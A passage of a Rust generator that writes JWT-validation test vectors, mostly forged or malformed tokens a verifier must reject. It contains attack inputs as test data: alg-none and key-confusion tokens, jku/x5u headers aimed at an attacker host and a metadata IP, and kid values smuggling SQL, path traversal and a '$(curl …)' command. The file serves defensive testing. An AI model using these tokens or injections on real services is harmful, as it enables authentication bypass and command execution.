//! `cargo xtask gen-vectors`: writes `tests/vectors/jwt.json`, the `jwt-validate` vectors,
//! from the fixed test keys in `tests/fixtures/jwt/`. RSA PKCS#1 v1.5 and Ed25519 tokens
//! come out byte-identical on every run; PS* and ES* signatures are randomised by their
//! algorithms, so those tokens differ between runs while testing the same thing.
//!
//! Every vector is the attack catalogue's baseline token T0 (`../shared/research/
//! attacks.md`, section 0) with one change; the `note` names the catalogue row.

// A generator over fixed fixtures: an out-of-range index is a bug in this file, and a
// panic is the right report.
#![allow(clippy::indexing_slicing)]

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use mcp_oauth_tests::jwt::{
    ISSUER, N, RESOURCE, TestKeys, claims, header, hmac_sha256, rsa1024_fixture,
};
use serde_json::{Value, json};

use crate::util::root;

/// The P-256 group order n, big-endian.
const P256_N: [u8; 32] = [
    0xff, 0xff, 0xff, 0xff, 0x00, 0x00, 0x00, 0x00, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff,
    0xbc, 0xe6, 0xfa, 0xad, 0xa7, 0x17, 0x9e, 0x84, 0xf3, 0xb9, 0xca, 0xc2, 0xfc, 0x63, 0x25, 0x51,
];

/// `cargo xtask gen-vectors [--check]`.
pub(crate) fn main() -> Result<(), String> {
    let vectors = jwt_vectors()?;
    let path = root().join("tests").join("vectors").join("jwt.json");
    let mut text = serde_json::to_string_pretty(&vectors).map_err(|e| e.to_string())?;
    text.push('\n');
    std::fs::write(&path, text).map_err(|e| format!("{}: {e}", path.display()))?;
    println!("wrote {} vectors to {}", vectors.len(), path.display());
    Ok(())
}

fn b64(b: &[u8]) -> String {
    URL_SAFE_NO_PAD.encode(b)
}

/// 256-bit big-endian a − b (a ≥ b).
fn sub256(a: &[u8; 32], b: &[u8]) -> [u8; 32] {
    let mut out = [0u8; 32];
    let mut borrow = 0i16;
    for i in (0..32).rev() {
        let bi = b.get(i).copied().unwrap_or(0);
        let d = i16::from(a[i]) - i16::from(bi) - borrow;
        borrow = i16::from(d < 0);
        out[i] = (d + if d < 0 { 256 } else { 0 }) as u8;
    }
    out
}

/// r‖s → DER `SEQUENCE { INTEGER r, INTEGER s }` (the wrong encoding for JWS).
fn der_signature(rs: &[u8]) -> Vec<u8> {
    let int = |v: &[u8]| {
        let v = &v[v.iter().take_while(|b| **b == 0).count()..];
        let mut out = vec![0x02];
        let pad = v.first().is_some_and(|b| b & 0x80 != 0);
        out.push((v.len() + usize::from(pad)) as u8);
        if pad {
            out.push(0);
        }
        out.extend_from_slice(v);
        out
    };
    let (r, s) = rs.split_at(rs.len() / 2);
    let body = [int(r), int(s)].concat();
    let mut out = vec![0x30, body.len() as u8];
    out.extend(body);
    out
}

struct Gen {
    keys: TestKeys,
    out: Vec<Value>,
}

fn policy() -> Value {
    json!({"issuers": [ISSUER], "audiences": [RESOURCE]})
}

impl Gen {
    // One argument per vector field keeps each call site a readable row.
    #[allow(clippy::too_many_arguments)]
    fn push(
        &mut self,
        id: &str,
        note: impl AsRef<str>,
        token: String,
        jwks: Value,
        now: u64,
        policy: Value,
        expect: Value,
    ) {
        self.out.push(json!({
            "suite": "jwt-validate",
            "id": id,
            "note": note.as_ref(),
            "input": {"token": token, "jwks": jwks, "now": now, "policy": policy},
            "expect": expect,
        }));
    }

    /// A vector against the trusted set, at N, with the default policy.
    fn std(&mut self, id: &str, note: &str, token: String, expect: Value) {
        let jwks = self.keys.jwks();
        self.push(id, note, token, jwks, N, policy(), expect);
    }

    fn rs1(&self, h: &Value, c: &Value) -> String {
        self.keys.rs1.sign(h, c)
    }

    fn t0(&self) -> String {
        self.rs1(&header("RS256", "rs1"), &claims())
    }

    fn with_claims(&self, f: impl FnOnce(&mut Value)) -> String {
        let mut c = claims();
        f(&mut c);
        self.rs1(&header("RS256", "rs1"), &c)
    }

    fn with_header(&self, f: impl FnOnce(&mut Value)) -> String {
        let mut h = header("RS256", "rs1");
        f(&mut h);
        self.rs1(&h, &claims())
    }

    fn raw_rs1(&self, header: &str, payload: &str) -> String {
        self.keys.rs1.sign_raw("RS256", header, payload)
    }
}

fn ok(scopes: &[&str]) -> Value {
    json!({"ok": true, "sub": "user-1", "scopes": scopes})
}

fn invalid() -> Value {
    json!({"error": "invalid_token"})
}

fn segments(token: &str) -> Vec<String> {
    token.split('.').map(str::to_owned).collect()
}

fn jwt_vectors() -> Result<Vec<Value>, String> {
    let keys = TestKeys::load().map_err(|e| e.0)?;
    let mut g = Gen {
        keys,
        out: Vec::new(),
    };
    valid(&mut g);
    structure(&mut g);
    algorithms(&mut g);
    ecdsa(&mut g);
    key_sources(&mut g);
    claims_vectors(&mut g);
    key_sets(&mut g);
    Ok(g.out)
}

fn valid(g: &mut Gen) {
    let c = claims();
    for alg in ["RS256", "RS384", "RS512", "PS256", "PS384", "PS512"] {
        let t = g.keys.rs1.sign(&header(alg, "rs1"), &c);
        g.std(
            &format!("valid-{}", alg.to_lowercase()),
            "AC-001: RSA key without alg verifies its family",
            t,
            ok(&["mcp:read"]),
        );
    }
    for (key, alg) in [
        (&g.keys.ec1, "ES256"),
        (&g.keys.ec384, "ES384"),
        (&g.keys.ed1, "EdDSA"),
    ] {
        let t = key.sign(&header(alg, key.kid), &c);
        let id = format!("valid-{}", alg.to_lowercase());
        g.out.push(json!({"suite": "jwt-validate", "id": id, "note": "AC-001", "input": {
            "token": t, "jwks": g.keys.jwks(), "now": N, "policy": policy()}, "expect": ok(&["mcp:read"])}));
    }
    let t = g.raw_rs1(
        r#"{ "alg" : "RS256" , "kid" : "rs1" , "typ" : "at+jwt" }"#,
        &claims().to_string(),
    );
    g.std(
        "valid-json-whitespace-header",
        "AC-016",
        t,
        ok(&["mcp:read"]),
    );
    let t = g.with_claims(|c| c["exp"] = json!(N as f64 + 600.5));
    g.std("valid-fractional-exp", "AC-047", t, ok(&["mcp:read"]));
    let t = g.with_claims(|c| c["aud"] = json!(["https://other.example.com/mcp", RESOURCE]));
    g.std("valid-aud-array", "AC-055", t, ok(&["mcp:read"]));
    let t = g.with_claims(|c| {
        c.as_object_mut().map(|o| o.remove("scope"));
        c["scp"] = json!(["mcp:read", "mcp:write"]);
    });
    g.std(
        "valid-scp-array",
        "Okta-style scp array",
        t,
        ok(&["mcp:read", "mcp:write"]),
    );
    let t = g.with_claims(|c| {
        c.as_object_mut().map(|o| o.remove("scope"));
        c["scp"] = json!("mcp:read mcp:write");
    });
    g.std(
        "valid-scp-string",
        "Entra-style scp string",
        t,
        ok(&["mcp:read", "mcp:write"]),
    );
    let t = g.with_claims(|c| c["scope"] = json!("mcp:read  mcp:write"));
    g.std(
        "valid-scope-double-space",
        "AC-067: empty scope tokens ignored",
        t,
        ok(&["mcp:read", "mcp:write"]),
    );
    let t = g.with_claims(|c| c["scope"] = json!("mcp:read mcp:write"));
    let jwks = g.keys.jwks();
    let p = json!({"issuers": [ISSUER], "audiences": [RESOURCE], "required_scopes": ["mcp:write"]});
    g.push(
        "valid-required-scope",
        "AC-066 control",
        t,
        jwks,
        N,
        p,
        ok(&["mcp:read", "mcp:write"]),
    );
    for (i, typ) in [
        "at+jwt",
        "application/at+jwt",
        "AT+JWT",
        "Application/At+Jwt",
    ]
    .into_iter()
    .enumerate()
    {
        let t = g.with_header(|h| h["typ"] = json!(typ));
        let p = json!({"issuers": [ISSUER], "audiences": [RESOURCE], "typ": ["at+jwt"]});
        let jwks = g.keys.jwks();
        g.push(
            &format!("valid-typ-{i}"),
            format!("AC-061: typ {typ:?}"),
            t,
            jwks,
            N,
            p,
            ok(&["mcp:read"]),
        );
    }
    let t = g.with_header(|h| {
        h.as_object_mut().map(|o| o.remove("kid"));
    });
    let jwks = json!({"keys": [g.keys.rs1.jwk()]});
    g.push(
        "valid-no-kid-single-key",
        "AC-074",
        t,
        jwks,
        N,
        policy(),
        ok(&["mcp:read"]),
    );
    let t = g.with_claims(|c| c["exp"] = json!(N - 59));
    g.std(
        "valid-exp-within-leeway",
        "AC-044: exp=N-59, L=60",
        t,
        ok(&["mcp:read"]),
    );
    let t = g.with_claims(|c| c["exp"] = json!(N + 1));
    let jwks = g.keys.jwks();
    g.push(
        "valid-exp-zero-leeway",
        "AC-044: exp=N+1, L=0",
        t,
        jwks,
        N,
        json!({"issuers": [ISSUER], "audiences": [RESOURCE], "leeway_s": 0}),
        ok(&["mcp:read"]),
    );
    let t = g.with_claims(|c| c["nbf"] = json!(N + 59));
    g.std("valid-nbf-within-leeway", "AC-049", t, ok(&["mcp:read"]));
    let t = g.with_header(|h| h["b64"] = json!(false));
    g.std(
        "valid-b64-false-without-crit",
        "AC-017: b64 ignored without crit",
        t,
        ok(&["mcp:read"]),
    );
    // ES256 high-S twin: ECDSA signatures are malleable; both verify.
    let t = g.keys.ec1.sign(&header("ES256", "ec1"), &claims());
    let mut parts = segments(&t);
    if let Some(sig) = parts.get(2).and_then(|s| URL_SAFE_NO_PAD.decode(s).ok()) {
        let (r, s) = sig.split_at(32);
        let twin = [r, &sub256(&P256_N, s)[..]].concat();
        parts[2] = b64(&twin);
        g.std(
            "valid-es256-high-s-twin",
            "AC-028: accepted (malleable); dedupe on jti, never on the token",
            parts.join("."),
            ok(&["mcp:read"]),
        );
    }
}

fn structure(g: &mut Gen) {
    let t0 = g.t0();
    let p = segments(&t0);
    let (h, c, s) = (p[0].clone(), p[1].clone(), p[2].clone());
    for (id, token) in [
        ("two-segments", format!("{h}.{c}")),
        ("one-segment", c.clone()),
        ("not-a-jwt", "thisisnotreallyajwt".to_owned()),
        ("empty", String::new()),
        ("null-signature", format!("{h}.{c}.")),
        ("extra-empty-segment", format!("{t0}.")),
        ("extra-segment", format!("{t0}.AAAA")),
        ("four-dots", "a.b.c.d".to_owned()),
        ("padding", format!("{h}.{c}=.{s}")),
        ("padding-in-signature", format!("{h}.{c}.{s}==")),
        (
            "standard-alphabet",
            format!("{h}.{c}.{}", s.replace('-', "+").replace('_', "/")),
        ),
        ("space-before-signature", format!("{h}.{c}. {s}")),
        (
            "newline-in-payload",
            format!("{h}.{}\n{}.{s}", &c[..10], &c[10..]),
        ),
    ] {
        g.std(
            &format!("structure-{id}"),
            "AC-003/004/005/009",
            token,
            invalid(),
        );
    }
    let jwe = format!(
        "{}.{}.{}.{}.{}",
        b64(br#"{"alg":"RSA-OAEP-256","enc":"A256GCM","cty":"JWT"}"#),
        b64(&[1; 256]),
        b64(&[2; 12]),
        b64(&claims().to_string().into_bytes()),
        b64(&[3; 16])
    );
    g.std(
        "structure-jwe",
        "AC-006: JWE not configured",
        jwe,
        invalid(),
    );
    let json_serialisation = json!({"protected": h, "payload": c, "signature": s}).to_string();
    g.std(
        "structure-json-serialisation",
        "AC-007",
        json_serialisation,
        invalid(),
    );
    let polyglot = json!({format!("{h}.{}.", b64(br#"{"sub":"admin"}"#)): "", "protected": h, "payload": c, "signature": s}).to_string();
    g.std("structure-polyglot", "AC-008", polyglot, invalid());
    // AC-010: a final character with non-zero unused bits.
    let last = c.chars().last().unwrap_or('A');
    let flipped = match last {
        'A' => 'B',
        'Q' => 'R',
        'g' => 'h',
        'w' => 'x',
        other => {
            if other == 'B' {
                'C'
            } else {
                'B'
            }
        }
    };
    g.std(
        "structure-noncanonical-base64",
        "AC-010",
        format!("{h}.{}{flipped}.{s}", &c[..c.len() - 1]),
        invalid(),
    );
    for (id, hdr) in [
        ("null", "null"),
        ("array", "[]"),
        ("string", "\"RS256\""),
        ("number", "1"),
        ("true", "true"),
        ("truncated", r#"{"alg":"RS256""#),
    ] {
        let t = g.raw_rs1(hdr, &claims().to_string());
        g.std(&format!("header-not-object-{id}"), "AC-011", t, invalid());
    }
    for (id, payload) in [
        ("array", "[]"),
        ("string", "\"x\""),
        ("null", "null"),
        ("number", "42"),
        ("not-json", "not json"),
    ] {
        let t = g.raw_rs1(&header("RS256", "rs1").to_string(), payload);
        g.std(&format!("payload-not-object-{id}"), "AC-012", t, invalid());
    }
    // AC-013: invalid UTF-8 inside a string, signed.
    let mut bad = claims().to_string().into_bytes();
    if let Some(i) = bad.windows(6).position(|w| w == b"user-1") {
        bad[i] = 0xc3;
        bad[i + 1] = 0x28;
    }
    let hdr = b64(header("RS256", "rs1").to_string().as_bytes());
    let input = format!("{hdr}.{}", b64(&bad));
    let sig = g.keys.rs1.sign_bytes("RS256", input.as_bytes());
    g.std(
        "payload-invalid-utf8",
        "AC-013",
        format!("{input}.{}", b64(&sig)),
        invalid(),
    );
    let t = g.raw_rs1(
        r#"{"alg":"RS256","kid":"rs1","typ":"at+jwt","alg":"none"}"#,
        &claims().to_string(),
    );
    g.std("header-duplicate-alg", "AC-014", t, invalid());
    let c = claims().to_string();
    let dup = c.replacen('{', r#"{"aud":"https://evil.example","#, 1);
    let t = g.raw_rs1(&header("RS256", "rs1").to_string(), &dup);
    g.std("payload-duplicate-aud", "AC-015", t, invalid());
    let dup = c.replacen('{', &format!(r#"{{"exp":{},"#, N - 3600), 1);
    let t = g.raw_rs1(&header("RS256", "rs1").to_string(), &dup);
    g.std("payload-duplicate-exp", "AC-015", t, invalid());
    let big = g.with_claims(|c| c["pad"] = json!("x".repeat(17 * 1024)));
    g.std("too-large", "DoS: 16 KiB default limit", big, invalid());
}

fn algorithms(g: &mut Gen) {
    let c = claims().to_string();
    let h0 = |alg: &str| json!({"alg": alg, "typ": "at+jwt", "kid": "rs1"}).to_string();
    for (id, alg) in [
        ("lower", "none"),
        ("title", "None"),
        ("upper", "NONE"),
        ("mixed", "nOnE"),
    ] {
        let t = format!("{}.{}.", b64(h0(alg).as_bytes()), b64(c.as_bytes()));
        g.std(&format!("alg-none-{id}"), "AC-019", t, invalid());
    }
    let t = format!(
        "{}.{}.{}",
        b64(h0("none").as_bytes()),
        b64(c.as_bytes()),
        b64(b"garbage")
    );
    g.std("alg-none-garbage-signature", "AC-019", t, invalid());
    let t = format!("{}.{}.", b64(h0("none").as_bytes()), b64(c.as_bytes()));
    let jwks = g.keys.jwks();
    g.push("alg-none-listed-in-policy", "FORMAT: none rejects even when listed", t, jwks, N,
        json!({"issuers": [ISSUER], "audiences": [RESOURCE], "algorithms": ["none", "HS256", "RS256"]}), invalid());
    for (id, alg) in [
        ("absent", Value::Null),
        ("empty", json!("")),
        ("array", json!(["RS256"])),
        ("object", json!({"a": 1})),
        ("lowercase", json!("rs256")),
    ] {
        let mut h = json!({"typ": "at+jwt", "kid": "rs1"});
        if !alg.is_null() {
            h["alg"] = alg;
        }
        let t = g.raw_rs1(&h.to_string(), &c);
        g.std(&format!("alg-{id}"), "AC-020", t, invalid());
    }
    // AC-021/022: HS256 keyed with public key material.
    let rs1 = g.keys.rs1.jwk();
    let n = URL_SAFE_NO_PAD
        .decode(rs1["n"].as_str().unwrap_or_default())
        .unwrap_or_default();
    let ec = g.keys.ec1.jwk();
    let point = [
        vec![4u8],
        URL_SAFE_NO_PAD
            .decode(ec["x"].as_str().unwrap_or_default())
            .unwrap_or_default(),
        URL_SAFE_NO_PAD
            .decode(ec["y"].as_str().unwrap_or_default())
            .unwrap_or_default(),
    ]
    .concat();
    for (id, kid, secret) in [
        ("rsa-n", "rs1", n),
        ("jwk-text", "rs1", rs1.to_string().into_bytes()),
        ("ec-point", "ec1", point),
    ] {
        let input = format!(
            "{}.{}",
            b64(json!({"alg": "HS256", "typ": "at+jwt", "kid": kid})
                .to_string()
                .as_bytes()),
            b64(c.as_bytes())
        );
        let tag = hmac_sha256(&secret, input.as_bytes());
        let jwks = g.keys.jwks();
        g.push(&format!("alg-hs256-key-confusion-{id}"), "AC-021/022", format!("{input}.{}", b64(&tag)), jwks, N,
            json!({"issuers": [ISSUER], "audiences": [RESOURCE], "algorithms": ["HS256", "RS256", "ES256"]}), invalid());
    }
    let t = g.keys.rs1.sign(&header("RS384", "rs1"), &claims());
    let jwks = json!({"keys": [g.keys.rs1.jwk_with_alg("RS256")]});
    g.push(
        "alg-not-the-keys-alg",
        "AC-023: the JWK declares RS256",
        t,
        jwks,
        N,
        policy(),
        invalid(),
    );
    let t = g.keys.rs1.sign(&header("PS256", "rs1"), &claims());
    let jwks = g.keys.jwks();
    g.push(
        "alg-not-in-policy",
        "AC-023: allow-list {RS256, ES256}",
        t,
        jwks,
        N,
        json!({"issuers": [ISSUER], "audiences": [RESOURCE], "algorithms": ["RS256", "ES256"]}),
        invalid(),
    );
    let input = format!(
        "{}.{}",
        b64(header("ES256", "rs1").to_string().as_bytes()),
        b64(c.as_bytes())
    );
    g.std(
        "alg-es256-on-rsa-key",
        "AC-024",
        format!("{input}.{}", b64(&[7u8; 64])),
        invalid(),
    );
    let t = g.keys.rs1.sign(&header("RS256", "ec1"), &claims());
    g.std("alg-rs256-on-ec-key", "AC-024", t, invalid());
    // AC-034: signature kept, header or payload changed.
    let t0 = g.t0();
    let p = segments(&t0);
    let other_kid = b64(header("RS256", "rs2").to_string().as_bytes());
    g.std(
        "modified-header-kid",
        "AC-034",
        format!("{other_kid}.{}.{}", p[1], p[2]),
        invalid(),
    );
    let mut c2 = claims();
    c2["sub"] = json!("admin");
    g.std(
        "modified-payload-sub",
        "AC-034",
        format!("{}.{}.{}", p[0], b64(c2.to_string().as_bytes()), p[2]),
        invalid(),
    );
    let no_typ = b64(json!({"alg": "RS256", "kid": "rs1"}).to_string().as_bytes());
    g.std(
        "modified-header-typ-removed",
        "AC-034",
        format!("{no_typ}.{}.{}", p[1], p[2]),
        invalid(),
    );
    let mut sig = URL_SAFE_NO_PAD.decode(&p[2]).unwrap_or_default();
    if let Some(b) = sig.last_mut() {
        *b ^= 1;
    }
    let expired = g.with_claims(|c| c["exp"] = json!(N - 3600));
    let e = segments(&expired);
    g.std(
        "expired-and-forged",
        "AC-035",
        format!("{}.{}.{}", e[0], e[1], b64(&sig)),
        invalid(),
    );
    g.std(
        "rsa-signature-bit-flip",
        "AC-029/030",
        format!("{}.{}.{}", p[0], p[1], b64(&sig)),
        invalid(),
    );
    g.std(
        "rsa-signature-zero",
        "AC-030",
        format!("{}.{}.{}", p[0], p[1], b64(&[0u8; 256])),
        invalid(),
    );
    g.std(
        "rsa-signature-truncated",
        "AC-030",
        format!("{}.{}.{}", p[0], p[1], b64(&sig[..255])),
        invalid(),
    );
    let prefixed = [
        &[0u8][..],
        &URL_SAFE_NO_PAD.decode(&p[2]).unwrap_or_default(),
    ]
    .concat();
    g.std(
        "rsa-signature-zero-prefixed",
        "AC-030",
        format!("{}.{}.{}", p[0], p[1], b64(&prefixed)),
        invalid(),
    );
    let t = g.keys.ed1.sign(&header("EdDSA", "ed1"), &claims());
    let q = segments(&t);
    let long = [URL_SAFE_NO_PAD.decode(&q[2]).unwrap_or_default(), vec![0]].concat();
    g.std(
        "eddsa-signature-65-bytes",
        "AC-031",
        format!("{}.{}.{}", q[0], q[1], b64(&long)),
        invalid(),
    );
}

fn ecdsa(g: &mut Gen) {
    let t = g.keys.ec1.sign(&header("ES256", "ec1"), &claims());
    let p = segments(&t);
    let sig = URL_SAFE_NO_PAD.decode(&p[2]).unwrap_or_default();
    let with = |s: &[u8]| format!("{}.{}.{}", p[0], p[1], b64(s));
    g.std(
        "es256-psychic-zero",
        "AC-025: CVE-2022-21449",
        with(&[0u8; 64]),
        invalid(),
    );
    let mut r_zero = sig.clone();
    r_zero[..32].fill(0);
    g.std("es256-r-zero", "AC-025", with(&r_zero), invalid());
    let s_n = [&sig[..32], &P256_N[..]].concat();
    g.std("es256-s-equals-n", "AC-025/027", with(&s_n), invalid());
    g.std(
        "es256-der-encoded",
        "AC-026",
        with(&der_signature(&sig)),
        invalid(),
    );
    g.std(
        "es256-65-bytes",
        "AC-026",
        with(&[sig.clone(), vec![0]].concat()),
        invalid(),
    );
    g.std("es256-63-bytes", "AC-026", with(&sig[1..]), invalid());
}

fn key_sources(g: &mut Gen) {
    let c = claims();
    let atk = g.keys.atk.jwk();
    let embedded = json!({"alg": "RS256", "typ": "at+jwt", "kid": "rs1", "jwk": {"kty": "RSA", "n": atk["n"], "e": atk["e"]}});
    g.std(
        "embedded-jwk",
        "AC-036",
        g.keys.atk.sign(&embedded, &c),
        invalid(),
    );
    for (id, h) in [
        (
            "jku",
            json!({"alg": "RS256", "typ": "at+jwt", "kid": "atk", "jku": "https://attacker.example/jwks.json"}),
        ),
        (
            "jku-metadata",
            json!({"alg": "RS256", "typ": "at+jwt", "kid": "atk", "jku": "http://169.254.169.254/latest/meta-data/"}),
        ),
        (
            "x5u",
            json!({"alg": "RS256", "typ": "at+jwt", "kid": "atk", "x5u": "https://attacker.example/c.pem"}),
        ),
        (
            "x5c",
            json!({"alg": "RS256", "typ": "at+jwt", "kid": "rs1", "x5c": ["MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA"]}),
        ),
    ] {
        g.std(
            &format!("key-source-{id}"),
            "AC-037/038: never a key source",
            g.keys.atk.sign(&h, &c),
            invalid(),
        );
    }
    for (i, kid) in [
        "../../../../../../dev/null",
        "/dev/null",
        "x' UNION SELECT '1';--",
        "|sleep 10",
        "$(curl https://attacker.example)",
    ]
    .into_iter()
    .enumerate()
    {
        let input = format!(
            "{}.{}",
            b64(json!({"alg": "HS256", "kid": kid}).to_string().as_bytes()),
            b64(c.to_string().as_bytes())
        );
        let tag = hmac_sha256(b"", input.as_bytes());
        g.std(
            &format!("kid-injection-{i}"),
            &format!("AC-039/040: kid {kid:?}"),
            format!("{input}.{}", b64(&tag)),
            invalid(),
        );
    }
    for (id, kid) in [
        ("number", json!(1)),
        ("true", json!(true)),
        ("null", Value::Null),
        ("array", json!(["rs1"])),
        ("object", json!({"$ne": null})),
    ] {
        let t = g.with_header(|h| h["kid"] = kid);
        g.std(&format!("kid-not-string-{id}"), "AC-041", t, invalid());
    }
    for (id, kid) in [
        ("empty", ""),
        ("trailing-space", "rs1 "),
        ("upper", "RS1"),
        ("cyrillic", "rѕ1"),
        ("nul", "rs1\u{0}"),
        ("unknown", "rs9"),
    ] {
        let t = g.with_header(|h| h["kid"] = json!(kid));
        g.std(
            &format!("kid-near-miss-{id}"),
            "AC-042/070: exact kid, no fallback",
            t,
            invalid(),
        );
    }
}

fn claims_vectors(g: &mut Gen) {
    let remove = |name: &'static str| {
        move |c: &mut Value| {
            c.as_object_mut().map(|o| o.remove(name));
        }
    };
    let t = g.with_claims(remove("exp"));
    g.std("exp-absent", "AC-043", t, invalid());
    let t = g.with_claims(|c| c["exp"] = json!(N - 61));
    g.std("exp-past-leeway", "AC-044: exp=N-61, L=60", t, invalid());
    let t = g.with_claims(|c| c["exp"] = json!(N));
    let jwks = g.keys.jwks();
    g.push(
        "exp-now-zero-leeway",
        "AC-044: exp=N, L=0",
        t,
        jwks,
        N,
        json!({"issuers": [ISSUER], "audiences": [RESOURCE], "leeway_s": 0}),
        invalid(),
    );
    for (id, v) in [
        ("string", json!("9999999999")),
        ("true", json!(true)),
        ("null", Value::Null),
        ("array", json!([N + 600])),
        ("object", json!({})),
    ] {
        let t = g.with_claims(|c| c["exp"] = v);
        g.std(&format!("exp-type-{id}"), "AC-045", t, invalid());
    }
    let c = claims().to_string();
    let huge = c.replace(&format!("\"exp\":{}", N + 600), "\"exp\":1e309");
    let t = g.raw_rs1(&header("RS256", "rs1").to_string(), &huge);
    g.std("exp-infinite", "AC-046", t, invalid());
    for (id, v) in [("minus-one", json!(-1)), ("zero", json!(0))] {
        let t = g.with_claims(|c| c["exp"] = v);
        g.std(&format!("exp-{id}"), "AC-048", t, invalid());
    }
    let t = g.with_claims(|c| c["nbf"] = json!(N + 61));
    g.std("nbf-future", "AC-049", t, invalid());
    let t = g.with_claims(|c| c["nbf"] = json!("0"));
    g.std("nbf-string", "AC-049", t, invalid());
    let t = g.with_claims(|c| {
        c["iat"] = json!(N + 3600);
        c["exp"] = json!(N + 7200);
    });
    g.std("iat-future", "AC-050", t, invalid());
    let t = g.with_claims(|c| c["iat"] = json!(N.to_string()));
    g.std("iat-string", "AC-051", t, invalid());
    let t = g.with_claims(remove("aud"));
    g.std("aud-absent", "AC-053", t, invalid());
    let t = g.with_claims(|c| c["aud"] = json!("https://other.example.com/mcp"));
    g.std("aud-other-server", "AC-054", t, invalid());
    for (id, v) in [
        ("empty-array", json!([])),
        ("empty-string-in-array", json!([""])),
        ("number-in-array", json!([1, RESOURCE])),
        ("object", json!({"0": RESOURCE})),
        ("trailing-space", json!(format!("{RESOURCE} "))),
        ("null", Value::Null),
    ] {
        let t = g.with_claims(|c| c["aud"] = v);
        g.std(&format!("aud-malformed-{id}"), "AC-056", t, invalid());
    }
    for (id, v) in [
        ("trailing-slash", format!("{RESOURCE}/")),
        ("path-case", "https://mcp.example.com/MCP".to_owned()),
        ("default-port", "https://mcp.example.com:443/mcp".to_owned()),
        ("query", format!("{RESOURCE}?x=1")),
        ("fragment", format!("{RESOURCE}#f")),
        (
            "percent-encoded",
            "https://mcp.example.com/%6Dcp".to_owned(),
        ),
        ("origin-only", "https://mcp.example.com".to_owned()),
    ] {
        let t = g.with_claims(|c| c["aud"] = json!(v));
        g.std(
            &format!("aud-near-miss-{id}"),
            "AC-057/058: exact comparison",
            t,
            invalid(),
        );
    }
    let id_token = json!({"iss": ISSUER, "sub": "user-1", "aud": "client-1", "nonce": "n-0S6_WzA2Mj", "auth_time": N - 60, "iat": N - 10, "exp": N + 600});
    let t = g.rs1(
        &json!({"alg": "RS256", "kid": "rs1", "typ": "JWT"}),
        &id_token,
    );
    g.std("id-token-substitution", "AC-059", t, invalid());
    for (id, typ) in [
        ("absent", Value::Null),
        ("jwt", json!("JWT")),
        ("dpop", json!("dpop+jwt")),
        ("secevent", json!("secevent+jwt")),
        ("trailing-space", json!("at+jwt ")),
    ] {
        let t = g.with_header(|h| {
            if typ.is_null() {
                h.as_object_mut().map(|o| o.remove("typ"));
            } else {
                h["typ"] = typ;
            }
        });
        let jwks = g.keys.jwks();
        g.push(
            &format!("typ-rejected-{id}"),
            "AC-060: policy typ [at+jwt]",
            t,
            jwks,
            N,
            json!({"issuers": [ISSUER], "audiences": [RESOURCE], "typ": ["at+jwt"]}),
            invalid(),
        );
    }
    let t = g.with_claims(remove("iss"));
    g.std("iss-absent", "AC-062", t, invalid());
    for (id, v) in [("array", json!([ISSUER])), ("number", json!(1))] {
        let t = g.with_claims(|c| c["iss"] = v);
        g.std(&format!("iss-type-{id}"), "AC-062", t, invalid());
    }
    for (id, v) in [
        ("trailing-slash", format!("{ISSUER}/")),
        ("host-case", "https://AS.example.com".to_owned()),
        ("default-port", "https://as.example.com:443".to_owned()),
        ("http", "http://as.example.com".to_owned()),
        ("cyrillic", "https://аs.example.com".to_owned()),
    ] {
        let t = g.with_claims(|c| c["iss"] = json!(v));
        g.std(&format!("iss-near-miss-{id}"), "AC-063/064", t, invalid());
    }
    for (id, claim) in [("sub", "sub"), ("client-id", "client_id"), ("jti", "jti")] {
        let t = g.with_claims(|c| c[claim] = json!(123));
        g.std(&format!("{id}-not-string"), "AC-065", t, invalid());
    }
    let jwks = g.keys.jwks();
    let write =
        json!({"issuers": [ISSUER], "audiences": [RESOURCE], "required_scopes": ["mcp:write"]});
    let t = g.t0();
    g.push(
        "scope-insufficient",
        "AC-066",
        t,
        jwks.clone(),
        N,
        write.clone(),
        json!({"error": "insufficient_scope"}),
    );
    for (id, scope) in [
        ("prefix", "mcp:writer"),
        ("suffix", "mcp:write:all"),
        ("case", "MCP:WRITE"),
        ("comma", "mcp:read,mcp:write"),
        ("tab", "mcp:read\tmcp:write"),
    ] {
        let t = g.with_claims(|c| c["scope"] = json!(scope));
        g.push(
            &format!("scope-near-miss-{id}"),
            "AC-067",
            t,
            jwks.clone(),
            N,
            write.clone(),
            json!({"error": "insufficient_scope"}),
        );
    }
    let t = g.with_claims(|c| {
        c["exp"] = json!(N - 3600);
    });
    g.push(
        "scope-insufficient-but-expired",
        "8: an invalid token is invalid_token, never insufficient_scope",
        t,
        jwks.clone(),
        N,
        write,
        invalid(),
    );
    for (id, v) in [
        ("array", json!(["mcp:write"])),
        ("number", json!(42)),
        ("object", json!({})),
    ] {
        let t = g.with_claims(|c| c["scope"] = v);
        g.std(&format!("scope-type-{id}"), "AC-068", t, invalid());
    }
    let t =
        g.with_claims(|c| c["cnf"] = json!({"jkt": "0ZcOCORZNYy-DWpqq30jZyJGHTN0d2HglBV3uiguA4I"}));
    g.std("sender-constrained-as-bearer", "AC-069", t, invalid());
    let t = g.with_claims(|c| c["iss"] = json!("https://other-as.example.com"));
    g.std("iss-not-accepted", "AC-063", t, invalid());
}

fn key_sets(g: &mut Gen) {
    let t0 = g.t0();
    let two = json!({"keys": [g.keys.rs1.jwk(), g.keys.rs2.jwk()]});
    let no_kid = {
        let h = json!({"alg": "RS256", "typ": "at+jwt"});
        g.keys.rs2.sign(&h, &claims())
    };
    g.push(
        "keys-no-kid-two-candidates",
        "AC-075: ambiguous",
        no_kid,
        two,
        N,
        policy(),
        invalid(),
    );
    let t = g.keys.rs2.sign(&header("RS256", "rs2"), &claims());
    g.std(
        "keys-kid-not-in-set",
        "AC-070: rs2 not trusted",
        t,
        invalid(),
    );
    let dup = json!({"keys": [g.keys.rs1.jwk(), {"kty": "RSA", "kid": "rs1", "use": "sig", "n": g.keys.rs2.jwk()["n"], "e": "AQAB"}]});
    g.push(
        "keys-duplicate-kid",
        "AC-076",
        t0.clone(),
        dup,
        N,
        policy(),
        invalid(),
    );
    let mut private = g.keys.rs1.jwk();
    private["d"] = json!("AQAB");
    g.push(
        "keys-private-members",
        "AC-077",
        t0.clone(),
        json!({"keys": [private]}),
        N,
        policy(),
        invalid(),
    );
    let mut enc = g.keys.rs1.jwk();
    enc["use"] = json!("enc");
    g.push(
        "keys-use-enc",
        "AC-078",
        t0.clone(),
        json!({"keys": [enc]}),
        N,
